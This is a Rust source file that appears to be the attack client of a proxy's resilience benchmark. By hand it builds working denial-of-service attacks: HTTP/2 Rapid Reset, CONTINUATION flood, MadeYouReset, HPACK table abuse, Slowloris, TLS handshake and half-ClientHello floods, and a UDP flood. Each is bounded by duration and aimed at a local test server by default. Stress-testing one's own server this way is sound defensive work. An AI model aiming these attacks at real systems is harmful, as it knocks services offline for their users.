//! `attack`: the hostile clients of the attack benchmark (bench/attacks.sh), one subcommand
//! per attack, plus `normal`, the well-behaved client whose service the benchmark watches while
//! an attack runs. Every attack is bounded by `--duration` and `--conns`, reconnects whenever
//! the server closes on it, and prints one `key=value` line of what it managed to send.
//!
//! HTTP/2 frames are written by hand: a compliant library (`h2`) refuses to send the
//! malformed sequences these attacks are made of. Header blocks use HPACK literals without
//! Huffman coding, which every decoder must accept.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use clap::{Parser, Subcommand};
use rustls::ClientConfig;
use rustls_pki_types::ServerName;
use sallyport_bench_tools::Error;
use sallyport_bench_tools::stats::nearest_rank;
use sallyport_bench_tools::tls::{self, Handshake, Trust};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpStream, UdpSocket};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout, timeout_at};
use tokio_rustls::TlsConnector;

#[derive(Parser)]
#[command(about = "Hostile and normal clients for the attack benchmark")]
struct Args {
    /// Address to connect (or send) to.
    #[arg(long, global = true, default_value = "127.0.0.1:8443")]
    connect: SocketAddr,
    /// Host (and SNI) the requests name.
    #[arg(long, global = true, default_value = "small.sallyport.test")]
    host: String,
    /// How long to run, in seconds.
    #[arg(long, global = true, default_value = "10", value_parser = parse_seconds)]
    duration: Duration,
    /// Connections (or, for udp-flood, sending tasks) the attack keeps going.
    #[arg(long, global = true, default_value_t = 8)]
    conns: usize,
    #[command(subcommand)]
    attack: Attack,
}

#[derive(Subcommand, Clone, Copy)]
enum Attack {
    /// The normal client: HTTP/1.1 keep-alive GETs at a fixed rate (open loop); prints
    /// throughput, p50/p99 latency from each request's scheduled time, and errors.
    Normal {
        /// Requests per second, spread over --conns connections.
        #[arg(long, default_value_t = 200)]
        rate: u32,
        /// Speak TLS (ALPN http/1.1).
        #[arg(long)]
        tls: bool,
    },
    /// HTTP/2 rapid reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL), in a loop.
    RapidReset,
    /// HTTP/2 CONTINUATION flood: a HEADERS frame without END_HEADERS, then CONTINUATION
    /// frames without END_HEADERS for ever.
    Continuation,
    /// MadeYouReset (CVE-2025-8671): open a stream, then send it a WINDOW_UPDATE of 0 (a stream
    /// error), so that the server resets it; in a loop.
    MadeYouReset,
    /// Oversized HPACK tables: SETTINGS_HEADER_TABLE_SIZE at its maximum, a dynamic table size
    /// update far above the server's limit, and requests full of distinct large headers that
    /// are to be indexed.
    Hpack,
    /// Slowloris: --conns HTTP/1.1 connections, each sending one header line every --every
    /// seconds and never finishing the request.
    Slowloris {
        #[arg(long, default_value = "5", value_parser = parse_seconds)]
        every: Duration,
    },
    /// Full TLS 1.3 handshakes (no resumption), closed at once, from --conns loops.
    TlsFlood,
    /// --conns connections that each send half a ClientHello and then nothing.
    HelloStall,
    /// UDP datagrams from ever new source addresses (127.x.y.z) and ports, from --conns tasks.
    UdpFlood,
}

fn parse_seconds(text: &str) -> Result<Duration, String> {
    text.parse::<f64>()
        .ok()
        .and_then(|secs| Duration::try_from_secs_f64(secs).ok())
        .filter(|d| !d.is_zero())
        .ok_or_else(|| format!("{text:?} is not a positive number of seconds"))
}

fn main() -> ExitCode {
    let args = Args::parse();
    let runtime = match tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
    {
        Ok(runtime) => runtime,
        Err(e) => {
            eprintln!("attack: starting the async runtime: {e}");
            return ExitCode::FAILURE;
        }
    };
    match runtime.block_on(run(args)) {
        Ok(line) => {
            println!("{line}");
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("attack: {e}");
            ExitCode::FAILURE
        }
    }
}

/// What every attack counts, shared by its connection loops.
#[derive(Default)]
struct Counters {
    /// Connections opened (TCP connect succeeded).
    connections: AtomicU64,
    /// Connect or handshake attempts that failed.
    connect_errors: AtomicU64,
    /// Connections the server closed (EOF or reset) while the attack was going on.
    closed_by_server: AtomicU64,
    /// Units of attack sent: streams, frames, handshakes, header lines or datagrams.
    sent: AtomicU64,
}

impl Counters {
    fn add(counter: &AtomicU64, n: u64) {
        counter.fetch_add(n, Ordering::Relaxed);
    }

    fn line(&self, unit: &str, elapsed: Duration) -> String {
        let sent = self.sent.load(Ordering::Relaxed);
        format!(
            "connections={} connect_errors={} closed_by_server={} {unit}={sent} {unit}_per_s={:.0}",
            self.connections.load(Ordering::Relaxed),
            self.connect_errors.load(Ordering::Relaxed),
            self.closed_by_server.load(Ordering::Relaxed),
            sent as f64 / elapsed.as_secs_f64(),
        )
    }
}

/// Settings shared by every task of a run.
struct Plan {
    target: SocketAddr,
    host: String,
    end: tokio::time::Instant,
    counters: Counters,
    tls: TlsConnector,
}

async fn run(args: Args) -> Result<String, Error> {
    let alpn: &[u8] = match args.attack {
        Attack::Normal { .. } => b"http/1.1",
        _ => b"h2",
    };
    let mut config: ClientConfig = tls::client_config(Trust::Nothing, Handshake::Full, false)?;
    config.alpn_protocols = vec![alpn.to_vec()];
    ServerName::try_from(args.host.clone()).map_err(|_| Error::ServerName(args.host.clone()))?;
    let plan = Arc::new(Plan {
        target: args.connect,
        host: args.host.clone(),
        end: tokio::time::Instant::now() + args.duration,
        counters: Counters::default(),
        tls: TlsConnector::from(Arc::new(config)),
    });
    if let Attack::Normal { rate, tls } = args.attack {
        return Ok(normal(plan, args.conns.max(1), rate, tls, args.duration).await);
    }
    let started = Instant::now();
    let mut tasks = JoinSet::new();
    for task in 0..args.conns {
        let plan = Arc::clone(&plan);
        let attack = args.attack;
        tasks.spawn(async move {
            // Stagger the start so that thousands of connects do not all land in one tick.
            sleep(Duration::from_micros(task as u64 * 200)).await;
            while tokio::time::Instant::now() < plan.end {
                let again = match attack {
                    Attack::RapidReset => h2_attack(&plan, H2Attack::RapidReset).await,
                    Attack::Continuation => h2_attack(&plan, H2Attack::Continuation).await,
                    Attack::MadeYouReset => h2_attack(&plan, H2Attack::MadeYouReset).await,
                    Attack::Hpack => h2_attack(&plan, H2Attack::Hpack).await,
                    Attack::Slowloris { every } => slowloris(&plan, every).await,
                    Attack::TlsFlood => tls_handshake(&plan).await,
                    Attack::HelloStall => hello_stall(&plan).await,
                    Attack::UdpFlood => udp_flood(&plan, task as u64).await,
                    Attack::Normal { .. } => return,
                };
                if again.is_err() {
                    Counters::add(&plan.counters.connect_errors, 1);
                    // A refused connect must not become a busy loop.
                    sleep(Duration::from_millis(10)).await;
                }
            }
        });
    }
    while tasks.join_next().await.is_some() {}
    let unit = match args.attack {
        Attack::RapidReset | Attack::MadeYouReset | Attack::Hpack => "streams",
        Attack::Continuation => "frames",
        Attack::Slowloris { .. } => "header_lines",
        Attack::TlsFlood => "handshakes",
        Attack::HelloStall => "stalled",
        Attack::UdpFlood => "datagrams",
        Attack::Normal { .. } => "requests",
    };
    Ok(plan.counters.line(unit, started.elapsed()))
}

// ---------------------------------------------------------------- HTTP/2 by hand

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const WINDOW_UPDATE: u8 = 0x8;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
/// RST_STREAM error code CANCEL.
const CANCEL: u32 = 0x8;
/// SETTINGS_HEADER_TABLE_SIZE.
const HEADER_TABLE_SIZE: u16 = 0x1;

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// An HPACK integer with an `prefix`-bit prefix, the first byte's high bits set to `high`.
fn hpack_int(out: &mut Vec<u8>, high: u8, prefix: u32, mut value: u64) {
    let max = (1u64 << prefix) - 1;
    if value < max {
        out.push(high | value as u8);
        return;
    }
    out.push(high | max as u8);
    value -= max;
    while value >= 128 {
        out.push((value % 128) as u8 | 0x80);
        value /= 128;
    }
    out.push(value as u8);
}

fn hpack_string(out: &mut Vec<u8>, text: &[u8]) {
    hpack_int(out, 0, 7, text.len() as u64);
    out.extend_from_slice(text);
}

/// `:method GET` (or POST), `:scheme https`, `:path /` from the static table, and
/// `:authority` as a literal without indexing on static name 1.
fn request_block(host: &str, post: bool) -> Vec<u8> {
    let mut block = vec![if post { 0x83 } else { 0x82 }, 0x87, 0x84];
    hpack_int(&mut block, 0x00, 4, 1);
    hpack_string(&mut block, host.as_bytes());
    block
}

#[derive(Clone, Copy)]
enum H2Attack {
    RapidReset,
    Continuation,
    MadeYouReset,
    Hpack,
}

/// Streams (or frames) written per batch before checking the clock.
const BATCH: u32 = 64;

/// One HTTP/2 connection over TLS running `attack` until the run ends or the server closes.
/// What the server sends is read and dropped by a task of its own, which also notices the
/// close.
async fn h2_attack(plan: &Plan, attack: H2Attack) -> Result<(), std::io::Error> {
    let tcp = TcpStream::connect(plan.target).await?;
    Counters::add(&plan.counters.connections, 1);
    let name = ServerName::try_from(plan.host.clone()).map_err(std::io::Error::other)?;
    let stream = timeout(Duration::from_secs(5), plan.tls.connect(name, tcp))
        .await
        .map_err(std::io::Error::other)??;
    let (mut reader, mut writer) = tokio::io::split(stream);
    let drain = tokio::spawn(async move {
        let mut buf = vec![0u8; 64 * 1024];
        while matches!(reader.read(&mut buf).await, Ok(n) if n > 0) {}
    });

    let mut out = PREFACE.to_vec();
    let mut settings = Vec::new();
    if let H2Attack::Hpack = attack {
        settings.extend_from_slice(&HEADER_TABLE_SIZE.to_be_bytes());
        settings.extend_from_slice(&u32::MAX.to_be_bytes());
    }
    frame(&mut out, SETTINGS, 0, 0, &settings);
    // The server's SETTINGS are acknowledged blindly: the attacker never reads them.
    frame(&mut out, SETTINGS, 0x1, 0, &[]);
    let block = request_block(&plan.host, matches!(attack, H2Attack::MadeYouReset));
    let mut next_stream: u32 = 1;
    let mut filler: u64 = 0;
    let outcome = async {
        loop {
            for _ in 0..BATCH {
                match attack {
                    H2Attack::RapidReset => {
                        frame(
                            &mut out,
                            HEADERS,
                            END_STREAM | END_HEADERS,
                            next_stream,
                            &block,
                        );
                        frame(&mut out, RST_STREAM, 0, next_stream, &CANCEL.to_be_bytes());
                    }
                    H2Attack::MadeYouReset => {
                        // An open stream (POST, no END_STREAM), then a stream error the server
                        // must answer with RST_STREAM: a WINDOW_UPDATE of 0, and DATA on top.
                        frame(&mut out, HEADERS, END_HEADERS, next_stream, &block);
                        frame(&mut out, WINDOW_UPDATE, 0, next_stream, &0u32.to_be_bytes());
                        frame(&mut out, DATA, 0, next_stream, b"x");
                    }
                    H2Attack::Continuation => {
                        if next_stream == 1 && filler == 0 {
                            frame(&mut out, HEADERS, 0, next_stream, &block);
                        }
                        let mut piece = Vec::with_capacity(1100);
                        // A literal without indexing, new name: 0x00, name, value.
                        piece.push(0x00);
                        hpack_string(&mut piece, format!("x-flood-{filler}").as_bytes());
                        hpack_string(&mut piece, &[b'a'; 1024]);
                        frame(&mut out, CONTINUATION, 0, next_stream, &piece);
                        filler += 1;
                        continue;
                    }
                    H2Attack::Hpack => {
                        let mut hblock = Vec::with_capacity(40 * 1024);
                        // Dynamic table size update far above the 4096 the server allows.
                        hpack_int(&mut hblock, 0x20, 5, 1 << 30);
                        hblock.extend_from_slice(&block);
                        for field in 0..8 {
                            // A literal with incremental indexing, new name: each is to be
                            // added to the dynamic table.
                            hblock.push(0x40);
                            hpack_string(&mut hblock, format!("x-big-{filler}-{field}").as_bytes());
                            hpack_string(&mut hblock, &[b'h'; 4000]);
                        }
                        filler += 1;
                        frame(
                            &mut out,
                            HEADERS,
                            END_STREAM | END_HEADERS,
                            next_stream,
                            &hblock,
                        );
                    }
                }
                next_stream += 2;
            }
            writer.write_all(&out).await?;
            out.clear();
            // Counted once written: what a closed connection refused was not sent.
            Counters::add(&plan.counters.sent, u64::from(BATCH));
            if tokio::time::Instant::now() >= plan.end || next_stream > 0x7fff_0000 {
                return Ok(());
            }
            if drain.is_finished() {
                Counters::add(&plan.counters.closed_by_server, 1);
                return Ok(());
            }
            // Let the reader run between batches, as a real attacker would keep reading.
            tokio::task::yield_now().await;
        }
    };
    let result: Result<(), std::io::Error> = timeout_at(plan.end, outcome).await.unwrap_or(Ok(()));
    if result.is_err() {
        Counters::add(&plan.counters.closed_by_server, 1);
    }
    drain.abort();
    Ok(())
}

// ---------------------------------------------------------------- HTTP/1.1 and TLS

/// Reads until EOF or an error (the server closed), or the end of the run.
async fn wait_for_close<S: AsyncRead + Unpin>(plan: &Plan, stream: &mut S) -> bool {
    let mut buf = [0u8; 4096];
    loop {
        match timeout_at(plan.end, stream.read(&mut buf)).await {
            Err(_) => return false,
            Ok(Ok(n)) if n > 0 => {}
            Ok(_) => return true,
        }
    }
}

async fn slowloris(plan: &Plan, every: Duration) -> Result<(), std::io::Error> {
    let mut stream = TcpStream::connect(plan.target).await?;
    Counters::add(&plan.counters.connections, 1);
    let opening = format!("GET / HTTP/1.1\r\nHost: {}\r\n", plan.host);
    stream.write_all(opening.as_bytes()).await?;
    let mut line = 0u64;
    loop {
        let (mut reader, mut writer) = stream.split();
        let closed = tokio::select! {
            closed = wait_for_close(plan, &mut reader) => Some(closed),
            () = sleep(every) => None,
        };
        match closed {
            Some(true) => {
                Counters::add(&plan.counters.closed_by_server, 1);
                return Ok(());
            }
            Some(false) => return Ok(()),
            None => {}
        }
        if writer
            .write_all(format!("X-Slow-{line}: a\r\n").as_bytes())
            .await
            .is_err()
        {
            Counters::add(&plan.counters.closed_by_server, 1);
            return Ok(());
        }
        Counters::add(&plan.counters.sent, 1);
        line += 1;
    }
}

async fn tls_handshake(plan: &Plan) -> Result<(), std::io::Error> {
    let tcp = TcpStream::connect(plan.target).await?;
    Counters::add(&plan.counters.connections, 1);
    let name = ServerName::try_from(plan.host.clone()).map_err(std::io::Error::other)?;
    let mut stream = timeout(Duration::from_secs(5), plan.tls.connect(name, tcp))
        .await
        .map_err(std::io::Error::other)??;
    Counters::add(&plan.counters.sent, 1);
    // Closed at once, without a request: the handshake is the whole cost.
    let _ = stream.shutdown().await;
    Ok(())
}

/// The first half of a real ClientHello record (with SNI and ALPN h2) as rustls writes it.
fn half_client_hello(plan: &Plan) -> Result<Vec<u8>, std::io::Error> {
    let mut config: ClientConfig = tls::client_config(Trust::Nothing, Handshake::Full, false)
        .map_err(std::io::Error::other)?;
    config.alpn_protocols = vec![b"h2".to_vec()];
    let name = ServerName::try_from(plan.host.clone()).map_err(std::io::Error::other)?;
    let mut client =
        rustls::ClientConnection::new(Arc::new(config), name).map_err(std::io::Error::other)?;
    let mut hello = Vec::new();
    client.write_tls(&mut hello)?;
    hello.truncate(hello.len() / 2);
    Ok(hello)
}

async fn hello_stall(plan: &Plan) -> Result<(), std::io::Error> {
    let hello = half_client_hello(plan)?;
    let mut stream = TcpStream::connect(plan.target).await?;
    Counters::add(&plan.counters.connections, 1);
    stream.write_all(&hello).await?;
    Counters::add(&plan.counters.sent, 1);
    if wait_for_close(plan, &mut stream).await {
        Counters::add(&plan.counters.closed_by_server, 1);
    }
    Ok(())
}

/// A small xorshift generator: source addresses need to be spread, not unpredictable.
fn next_random(state: &mut u64) -> u64 {
    *state ^= *state << 13;
    *state ^= *state >> 7;
    *state ^= *state << 17;
    *state
}

/// One datagram from a fresh socket on a random 127.x.y.z address and ephemeral port; the
/// socket is dropped at once, so every datagram is a new session to the router and its
/// answers go nowhere, as with spoofed sources.
async fn udp_flood(plan: &Plan, task: u64) -> Result<(), std::io::Error> {
    let mut state = 0x9e37_79b9_7f4a_7c15 ^ (task + 1).wrapping_mul(0x1234_5678_9abc_def1);
    while tokio::time::Instant::now() < plan.end {
        for _ in 0..BATCH {
            let r = next_random(&mut state);
            let source = Ipv4Addr::new(127, (r >> 8) as u8, (r >> 16) as u8, (r >> 24) as u8 | 1);
            let socket = UdpSocket::bind(SocketAddrV4::new(source, 0)).await?;
            if socket.send_to(&[0x5a; 64], plan.target).await.is_ok() {
                Counters::add(&plan.counters.sent, 1);
            }
        }
        tokio::task::yield_now().await;
    }
    Ok(())
}

// ---------------------------------------------------------------- the normal client

/// A response: status code and how long after its scheduled start it was complete.
type Outcome = Result<(u16, Duration), ()>;

async fn normal(plan: Arc<Plan>, conns: usize, rate: u32, tls: bool, length: Duration) -> String {
    let (tx, rx) = tokio::sync::mpsc::unbounded_channel::<tokio::time::Instant>();
    let rx = Arc::new(tokio::sync::Mutex::new(rx));
    let mut workers = JoinSet::new();
    for _ in 0..conns {
        let plan = Arc::clone(&plan);
        let rx = Arc::clone(&rx);
        workers.spawn(async move {
            let mut outcomes: Vec<Outcome> = Vec::new();
            let mut connection: Option<Box<dyn Stream>> = None;
            let mut reported = false;
            loop {
                let scheduled = match rx.lock().await.recv().await {
                    Some(at) => at,
                    None => return outcomes,
                };
                if connection.is_none() {
                    match open(&plan, tls).await {
                        Ok(stream) => connection = Some(stream),
                        Err(e) => report_once(&mut reported, format!("connecting: {e}")),
                    }
                }
                let outcome = match connection.as_mut() {
                    Some(stream) => {
                        match timeout(Duration::from_secs(5), get(stream.as_mut(), &plan.host))
                            .await
                        {
                            Ok(Ok(status)) => Ok(status),
                            Ok(Err(e)) => {
                                report_once(&mut reported, format!("request: {e}"));
                                Err(())
                            }
                            Err(_) => {
                                report_once(&mut reported, "request: no response in 5 s".into());
                                Err(())
                            }
                        }
                    }
                    None => Err(()),
                };
                match outcome {
                    Ok(status) => outcomes.push(Ok((status, scheduled.elapsed()))),
                    Err(()) => {
                        connection = None;
                        outcomes.push(Err(()));
                    }
                }
            }
        });
    }
    let started = tokio::time::Instant::now();
    let period = Duration::from_secs_f64(1.0 / f64::from(rate.max(1)));
    let mut ticker = tokio::time::interval(period);
    ticker.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Burst);
    let mut scheduled = 0u64;
    while started.elapsed() < length {
        let at = ticker.tick().await;
        if tx.send(at).is_err() {
            break;
        }
        scheduled += 1;
    }
    drop(tx);
    let mut outcomes = Vec::new();
    // Requests still queued when the run ends get a few seconds, then count as errors.
    let drained = timeout(Duration::from_secs(6), async {
        while let Some(Ok(mut part)) = workers.join_next().await {
            outcomes.append(&mut part);
        }
    })
    .await;
    if drained.is_err() {
        workers.abort_all();
    }
    let mut latencies: Vec<u64> = Vec::new();
    let (mut ok, mut non2xx, mut errors) = (0u64, 0u64, 0u64);
    for outcome in &outcomes {
        match outcome {
            Ok((status, latency)) => {
                latencies.push(u64::try_from(latency.as_micros()).unwrap_or(u64::MAX));
                if (200..300).contains(status) {
                    ok += 1;
                } else {
                    non2xx += 1;
                }
            }
            Err(()) => errors += 1,
        }
    }
    errors += scheduled.saturating_sub(outcomes.len() as u64);
    latencies.sort_unstable();
    let pct = |p| nearest_rank(&latencies, p).map_or("nan".to_owned(), |v| v.to_string());
    format!(
        "scheduled={scheduled} ok={ok} non2xx={non2xx} errors={errors} rps={:.1} p50_us={} p99_us={}",
        ok as f64 / length.as_secs_f64(),
        pct(50.0),
        pct(99.0),
    )
}

/// Says on stderr why a connection's first request failed (once per connection loop), so
/// that a run full of errors can be explained from the log.
fn report_once(reported: &mut bool, why: String) {
    if !*reported {
        *reported = true;
        eprintln!("attack normal: {why}");
    }
}

trait Stream: AsyncRead + AsyncWrite + Unpin + Send {}
impl<T: AsyncRead + AsyncWrite + Unpin + Send> Stream for T {}

async fn open(plan: &Plan, tls: bool) -> Result<Box<dyn Stream>, std::io::Error> {
    let tcp = timeout(Duration::from_secs(5), TcpStream::connect(plan.target))
        .await
        .map_err(std::io::Error::other)??;
    tcp.set_nodelay(true)?;
    if !tls {
        return Ok(Box::new(tcp));
    }
    let name = ServerName::try_from(plan.host.clone()).map_err(std::io::Error::other)?;
    Ok(Box::new(plan.tls.connect(name, tcp).await?))
}

/// One keep-alive GET; the response must carry a Content-Length (the benchmark backends do).
async fn get(stream: &mut dyn Stream, host: &str) -> Result<u16, std::io::Error> {
    let bad = |what: &str| std::io::Error::new(std::io::ErrorKind::InvalidData, what.to_owned());
    stream
        .write_all(format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes())
        .await?;
    let mut head = Vec::with_capacity(512);
    let mut buf = [0u8; 4096];
    let end = loop {
        let n = stream.read(&mut buf).await?;
        if n == 0 {
            return Err(bad("closed before the response"));
        }
        head.extend_from_slice(&buf[..n]);
        if let Some(at) = head.windows(4).position(|w| w == b"\r\n\r\n") {
            break at + 4;
        }
        if head.len() > 64 * 1024 {
            return Err(bad("response head too long"));
        }
    };
    let text = String::from_utf8_lossy(&head[..end]);
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|code| code.parse::<u16>().ok())
        .ok_or_else(|| bad("no status code"))?;
    let length = text
        .lines()
        .find_map(|line| {
            let (name, value) = line.split_once(':')?;
            name.eq_ignore_ascii_case("content-length")
                .then(|| value.trim().parse::<usize>().ok())?
        })
        .ok_or_else(|| bad("no Content-Length"))?;
    let mut have = head.len() - end;
    while have < length {
        let n = stream.read(&mut buf).await?;
        if n == 0 {
            return Err(bad("closed in the body"));
        }
        have += n;
    }
    Ok(status)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hpack_integers_follow_rfc_7541_examples() {
        // RFC 7541 C.1.1 to C.1.3.
        let mut out = Vec::new();
        hpack_int(&mut out, 0, 5, 10);
        assert_eq!(out, [0x0a]);
        out.clear();
        hpack_int(&mut out, 0, 5, 1337);
        assert_eq!(out, [0x1f, 0x9a, 0x0a]);
        out.clear();
        hpack_int(&mut out, 0, 8, 42);
        assert_eq!(out, [0x2a]);
        out.clear();
        // The high bits of the first byte carry the representation's pattern.
        hpack_int(&mut out, 0x20, 5, 31);
        assert_eq!(out, [0x3f, 0x00]);
    }

    #[test]
    fn frame_header_has_length_type_flags_and_stream() {
        let mut out = Vec::new();
        frame(&mut out, RST_STREAM, 0, 0x8000_0003, &CANCEL.to_be_bytes());
        // 24-bit length 4, type 3, no flags, reserved bit cleared from the stream id.
        assert_eq!(out, [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
    }

    #[test]
    fn request_block_names_authority_as_a_literal() {
        let block = request_block("a.test", false);
        assert_eq!(
            block,
            [
                0x82, 0x87, 0x84, 0x01, 6, b'a', b'.', b't', b'e', b's', b't'
            ]
        );
        assert_eq!(request_block("a.test", true)[0], 0x83);
    }
}
